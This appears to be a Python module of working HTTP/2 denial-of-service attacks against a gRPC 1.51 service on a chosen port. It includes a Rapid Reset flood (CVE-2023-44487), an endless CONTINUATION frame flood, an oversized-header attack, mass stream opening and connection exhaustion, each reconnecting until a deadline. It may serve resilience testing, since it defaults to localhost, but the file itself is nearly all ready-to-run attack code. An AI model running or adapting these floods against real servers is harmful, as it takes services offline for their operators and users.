"""Floods of HTTP/2 against whoever listens: each is a function of a port and of the moment when it ends, and returns the bytes that it sent.

gRPC 1.51 bounds none of them by itself. They go on over new connections when one is ended.
"""
import time

from frame.http2 import CONTINUATION, Connection, END_HEADERS, HEADERS, RST_STREAM, frame, request

PATH = "/muster.worker.v1.Bootstrap/Enroll"
AT_ONCE = 200  # Frames in one write.


def over_connections(port, end, next_writes, source="127.0.0.1"):
    """Opens connections and sends what `next_writes` makes for each, until the end."""
    sent = 0
    while time.monotonic() < end:
        try:
            connection = Connection(port, source=source)
        except OSError:
            time.sleep(0.02)  # The door is being started again, or has no turn for us.
            continue
        for data in next_writes():
            if time.monotonic() >= end or not connection.send(data) or not connection.read_away():
                break
        sent += connection.sent
        connection.close()
    return sent


def many_streams(port, end, source="127.0.0.1"):
    """Calls that are opened and never go on."""

    def writes():
        block = request(PATH)  # Literals and static entries: the same block is valid each time.
        first = 1
        while first < 2**30:
            yield b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, block if first + i == 1 else request(PATH)) for i in range(AT_ONCE))
            first += 2 * AT_ONCE

    return over_connections(port, end, writes, source)


def open_and_reset(port, end, source="127.0.0.1"):
    """Calls that are opened and reset at once (CVE-2023-44487)."""

    def writes():
        first = 1
        while first < 2**30:
            yield b"".join(
                frame(HEADERS, END_HEADERS, first + 2 * i, request(PATH)) + frame(RST_STREAM, 0, first + 2 * i, b"\0\0\0\x08")
                for i in range(AT_ONCE))
            first += 2 * AT_ONCE

    return over_connections(port, end, writes, source)


def endless_continuation(port, end, source="127.0.0.1"):
    """One call whose headers have no end: a new small header in each frame."""

    def writes():
        yield frame(HEADERS, 0, 1, request(PATH))
        # Literal without indexing, new name: 0x00, name, value.
        header = b"\x00\x06x-more\x7f\xe1\x1e" + b"v" * 4000
        while True:
            yield frame(CONTINUATION, 0, 1, header * 4)

    return over_connections(port, end, writes, source)


def endless_header(port, end, source="127.0.0.1"):
    """One header whose value has no end."""

    def writes():
        # A literal whose value is said to be 2^28 bytes long.
        yield frame(HEADERS, 0, 1, request(PATH) + b"\x00\x06x-long\x7f\x81\xff\xff\x7f" + b"v" * 100)
        while True:
            yield frame(CONTINUATION, 0, 1, b"v" * 16000)

    return over_connections(port, end, writes, source)


def many_small_connections(port, end, source="127.0.0.1"):
    """Connections that shake hands, open a few calls and stay."""
    held, sent = [], 0
    while time.monotonic() < end:
        try:
            connection = Connection(port, source=source)
        except OSError:
            time.sleep(0.02)
            continue
        for stream in range(1, 9, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, request(PATH)))
        sent += connection.sent
        held.append(connection)
    for connection in held:
        connection.close()
    return sent


ALL = [many_streams, open_and_reset, endless_continuation, endless_header, many_small_connections]
